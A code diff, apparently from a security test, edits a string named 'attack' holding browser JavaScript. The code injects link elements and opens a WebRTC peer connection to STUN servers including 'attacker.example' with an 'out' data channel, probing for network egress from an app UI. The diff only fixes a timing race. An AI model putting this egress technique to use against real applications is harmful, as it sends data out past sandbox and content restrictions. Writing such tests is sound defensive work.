@@ -59,8 +59,9 @@ const attack = `new Promise((done) => setTimeout(async () => {
       document.head.append(Object.assign(document.createElement('link'), { rel, href }));
   const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:192.0.2.1', 'stun:attacker.example', 'stun:127.0.0.1:3478'] }] });
   peer.createDataChannel('out');
+  const gathered = new Promise((end) => { peer.onicecandidate = ({ candidate }) => candidate?.candidate || end(); });
   await peer.setLocalDescription(await peer.createOffer());
-  await new Promise((end) => { peer.onicecandidate = ({ candidate }) => candidate?.candidate || end(); });
+  await gathered;
   await fetch('app://ui/');
   done('tried');
 }))`;
